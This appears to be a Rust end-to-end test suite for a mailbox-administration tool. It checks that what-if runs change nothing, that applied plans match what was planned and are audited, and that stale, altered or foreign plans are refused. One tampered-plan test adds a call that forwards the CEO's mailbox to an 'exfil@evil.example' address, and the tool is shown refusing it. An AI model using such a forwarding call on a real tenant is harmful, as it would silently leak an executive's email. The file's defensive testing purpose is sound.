//! What-if and approval end to end: `exorun run --what-if` of a write
//! plugin against a simulated tenant (HTTPS, in this test process, so its
//! state can be compared), `exorun plan show`, `exorun apply`.

use std::path::Path;

use exorun_cmdlet::{Call, Value};
use exorun_e2e::{Exorun, SimHarness, exorun};
use exorun_plan::Plan;

const MAILBOXES: usize = 200;
const SEED: u64 = 1;

struct Setup(SimHarness);

impl std::ops::Deref for Setup {
    type Target = SimHarness;
    fn deref(&self) -> &SimHarness {
        &self.0
    }
}

impl Setup {
    async fn start() -> Setup {
        Setup::with_plugin("tests/plugins/forwarding-cleanup").await
    }

    async fn with_plugin(rel: &str) -> Setup {
        Setup(SimHarness::start(rel, MAILBOXES, SEED).await)
    }

    async fn what_if(&self, plan: &Path) -> Exorun {
        self.exorun(&[
            "run",
            &self.plugin,
            "--what-if",
            "--plan",
            plan.to_str().unwrap(),
            "--outputs-dir",
            self.path("outputs").to_str().unwrap(),
        ])
        .await
    }

    /// `exorun apply PLAN --plugin <the built plugin> <extra>`.
    async fn apply(&self, plan: &Path, extra: &[&str]) -> Exorun {
        let mut args = vec!["apply", plan.to_str().unwrap(), "--plugin", &self.plugin];
        args.extend_from_slice(extra);
        self.exorun(&args).await
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_changes_nothing_and_apply_makes_exactly_the_planned_changes() {
    let setup = Setup::start().await;
    let before = setup.sim.tenant.to_json();
    let plan_path = setup.path("cleanup.plan.json");

    let out = setup.what_if(&plan_path).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        setup.sim.tenant.to_json(),
        before,
        "the what-if changed the tenant"
    );
    assert!(
        out.stderr
            .contains("exorun: what-if: nothing was changed; "),
        "{}",
        out.stderr
    );

    let read = Plan::read(&plan_path).unwrap();
    let plan = &read.plan;
    assert!(
        plan.calls.len() >= 3,
        "too few changes to test: {:?}",
        plan.calls
    );
    assert!(plan.calls.iter().all(|c| !c.is_read_only()));
    assert!(plan.calls.iter().any(|c| c.cmdlet == "Set-Mailbox"));
    assert!(plan.calls.iter().any(|c| c.cmdlet == "Remove-InboxRule"));
    assert_eq!(plan.tenant, setup.sim.info.initial_domain);
    assert_eq!(plan.plugin.name, "forwarding-cleanup");
    assert_eq!(
        plan.calls[0].get("ForwardingSmtpAddress").is_some(),
        plan.calls[0].cmdlet == "Set-Mailbox"
    );
    // The plugin ran to its end on simulated successes, and said so.
    assert!(
        out.stdout.contains(&format!(
            "{MAILBOXES} mailboxes, {} changes",
            plan.calls.len()
        )),
        "{}",
        out.stdout
    );

    // The what-if's writes are in the audit trail as planned, never sent.
    let audit = setup.audit();
    let planned: Vec<&serde_json::Value> =
        audit.iter().filter(|r| r["outcome"] == "planned").collect();
    assert_eq!(planned.len(), plan.calls.len());
    assert!(
        planned
            .iter()
            .all(|r| r["mode"] == "what-if" && r.get("clientRequestId").is_none())
    );
    let end = audit.last().unwrap();
    assert_eq!(end["kind"], "run-end");
    assert_eq!(end["plan"], read.sha256.as_str());

    let show = exorun(&["plan", "show", plan_path.to_str().unwrap()]);
    assert_eq!(show.code, 0, "{}", show.stderr);
    assert!(
        show.stdout.contains(&format!("(sha256 {})", read.sha256)),
        "{}",
        show.stdout
    );
    assert!(
        show.stdout
            .contains(&format!("\n{} changes to ", plan.calls.len())),
        "{}",
        show.stdout
    );
    let first = exorun_plan::render_call(&plan.calls[0], None);
    assert!(
        show.stdout.contains(&format!("  1  {first}\n")),
        "{}",
        show.stdout
    );
    let object = exorun_plan::object_of(&plan.calls[0]);
    assert!(
        show.stdout.contains(&format!("\n{object}\n  ")),
        "{}",
        show.stdout
    );

    let applied = setup.apply(&plan_path, &["--yes"]).await;
    assert_eq!(applied.code, 0, "{}", applied.stderr);
    assert!(
        applied.stderr.contains(&format!(
            "exorun: applied {0} of {0} changes to {1}",
            plan.calls.len(),
            setup.sim.info.initial_domain
        )),
        "{}",
        applied.stderr
    );
    let after = setup.sim.tenant.to_json();
    assert_ne!(after, before);
    assert_eq!(after, setup.expected_after(&plan.calls));

    let audit = setup.audit();
    let apply_records: Vec<&serde_json::Value> =
        audit.iter().filter(|r| r["mode"] == "apply").collect();
    // A start, an intent (fsynced before it was sent) and an outcome per
    // change, an end.
    assert_eq!(apply_records.len(), 2 * plan.calls.len() + 2);
    let intents: Vec<&&serde_json::Value> = apply_records
        .iter()
        .filter(|r| r["kind"] == "intent")
        .collect();
    assert_eq!(intents.len(), plan.calls.len());
    for (intent, call) in intents.iter().zip(&plan.calls) {
        assert_eq!(intent["cmdlet"], call.cmdlet.as_str());
        assert!(intent.get("outcome").is_none());
    }
    assert!(
        apply_records
            .iter()
            .all(|r| r["plan"] == read.sha256.as_str())
    );
    let calls: Vec<&&serde_json::Value> = apply_records
        .iter()
        .filter(|r| r["kind"] == "call")
        .collect();
    for (record, call) in calls.iter().zip(&plan.calls) {
        assert_eq!(record["cmdlet"], call.cmdlet.as_str());
        assert_eq!(record["outcome"], "ok");
        assert_eq!(record["clientRequestId"].as_str().map(str::len), Some(36));
    }
    let verified = exorun(&[
        "audit",
        "verify",
        setup.path("audit.jsonl").to_str().unwrap(),
    ]);
    assert_eq!(verified.code, 0, "{}", verified.stdout);

    // The same plan again: refused, nothing sent, unless asked explicitly.
    let requests = setup.sim.invoke_requests();
    let again = setup.apply(&plan_path, &["--yes"]).await;
    assert_eq!(again.code, 1, "{}", again.stderr);
    assert!(
        again.stderr.contains(&format!(
            "exorun: apply refused: the plan sha256 {} was applied before (audit run ",
            read.sha256
        )),
        "{}",
        again.stderr
    );
    assert!(again.stderr.contains("pass --again to apply it once more"));
    assert_eq!(setup.sim.invoke_requests(), requests);
    // Asked explicitly, it is sent again (and meets a tenant that has
    // changed: the inbox rules it removed are gone).
    let again = setup.apply(&plan_path, &["--yes", "--again"]).await;
    assert!(!again.stderr.contains("apply refused"), "{}", again.stderr);
    assert!(setup.sim.invoke_requests() > requests);
}

/// The JavaScript example plugin, through the same review cycle: its
/// what-if sends no write, and applying its plan leaves the tenant exactly
/// as running those calls would.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_of_the_js_remove_forwarding_plugin_changes_nothing_and_apply_makes_its_plan() {
    let setup = Setup::with_plugin("plugins/remove-external-forwarding").await;
    let before = setup.sim.tenant.to_json();
    let plan_path = setup.path("remove-forwarding.plan.json");

    let out = setup.what_if(&plan_path).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        setup.sim.tenant.to_json(),
        before,
        "the what-if changed the tenant"
    );

    let plan = Plan::read(&plan_path).unwrap().plan;
    assert_eq!(plan.plugin.name, "remove-external-forwarding");
    let cmdlets: std::collections::BTreeSet<&str> =
        plan.calls.iter().map(|c| c.cmdlet.as_str()).collect();
    assert_eq!(
        cmdlets,
        ["Disable-InboxRule", "Set-Mailbox"].into_iter().collect()
    );
    assert!(
        plan.calls
            .iter()
            .filter(|c| c.cmdlet == "Set-Mailbox")
            .all(|c| c.get("ForwardingSmtpAddress") == Some(&Value::Null))
    );

    let applied = setup.apply(&plan_path, &["--yes"]).await;
    assert_eq!(applied.code, 0, "{}", applied.stderr);
    assert_eq!(
        setup.sim.tenant.to_json(),
        setup.expected_after(&plan.calls)
    );
}

/// Writes a changed copy of a plan, sealed as `exorun` seals plans.
fn reseal(from: &Path, to: &Path, change: impl FnOnce(&mut Plan)) {
    let mut plan = Plan::read(from).unwrap().plan;
    change(&mut plan);
    plan.write_new(to).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stale_altered_or_foreign_plan_is_refused_and_nothing_is_sent() {
    let setup = Setup::start().await;
    let plan_path = setup.path("cleanup.plan.json");
    let out = setup.what_if(&plan_path).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let before = setup.sim.tenant.to_json();
    let requests = setup.sim.invoke_requests();

    let refused = |out: &Exorun, reason: &str| {
        assert_eq!(out.code, 1, "{}", out.stderr);
        assert!(
            out.stderr
                .contains(&format!("exorun: apply refused: {reason}")),
            "{reason}\n{}",
            out.stderr
        );
        assert!(out.stderr.contains("; nothing was sent"), "{}", out.stderr);
    };

    let altered = setup.path("altered.plan.json");
    let text = std::fs::read_to_string(&plan_path).unwrap();
    let first_identity = Plan::read(&plan_path).unwrap().plan.calls[0]
        .get("Identity")
        .and_then(Value::as_text)
        .unwrap()
        .to_owned();
    std::fs::write(
        &altered,
        text.replacen(&first_identity, "ceo@contoso.com", 1),
    )
    .unwrap();
    let out = setup.apply(&altered, &["--yes"]).await;
    refused(&out, "the plan ");
    assert!(
        out.stderr.contains("was altered after it was written"),
        "{}",
        out.stderr
    );

    let stale = setup.path("stale.plan.json");
    reseal(&plan_path, &stale, |p| {
        p.created_at = exorun_audit::format_rfc3339_millis(
            std::time::SystemTime::now() - std::time::Duration::from_secs(2 * 86_400),
        );
    });
    let out = setup.apply(&stale, &["--yes"]).await;
    refused(
        &out,
        "the plan was written 2 d ago, longer than the 24 h a plan may wait (--max-age)",
    );
    let out = setup.apply(&plan_path, &["--yes", "--max-age", "0s"]).await;
    refused(&out, "the plan was written ");

    let other_build = setup.path("other-build.plan.json");
    reseal(&plan_path, &other_build, |p| {
        p.plugin.sha256 = "00".repeat(32)
    });
    let out = setup.apply(&other_build, &["--yes"]).await;
    refused(
        &out,
        &format!(
            "the plan was made by plugin build sha256 {}",
            "00".repeat(32)
        ),
    );

    let other_tenant = setup.path("other-tenant.plan.json");
    reseal(&plan_path, &other_tenant, |p| {
        p.tenant = "fabrikam.onmicrosoft.com".into()
    });
    let out = setup.apply(&other_tenant, &["--yes"]).await;
    refused(
        &out,
        &format!(
            "the plan is for tenant fabrikam.onmicrosoft.com, but this connection is to {}",
            setup.sim.info.initial_domain
        ),
    );

    let outside = setup.path("outside.plan.json");
    reseal(&plan_path, &outside, |p| {
        p.calls.push(
            Call::new("Set-Mailbox")
                .param("Identity", "ceo@contoso.com")
                .param("ForwardingSmtpAddress", "exfil@evil.example"),
        )
    });
    let out = setup.apply(&outside, &["--yes"]).await;
    refused(&out, "call ");
    assert!(
        out.stderr.contains("is no longer allowed by the manifest"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr
            .contains("[validate-set:Set-Mailbox/ForwardingSmtpAddress]"),
        "{}",
        out.stderr
    );

    let out = setup
        .apply(&plan_path, &["--yes", "--expect-sha256", &"ab".repeat(32)])
        .await;
    refused(&out, "the plan file has sha256 ");

    let out = setup.apply(&plan_path, &[]).await;
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains("pass --yes to apply without asking"),
        "{}",
        out.stderr
    );

    assert_eq!(setup.sim.tenant.to_json(), before);
    assert_eq!(
        setup.sim.invoke_requests(),
        requests,
        "a refused apply sent a request"
    );
}
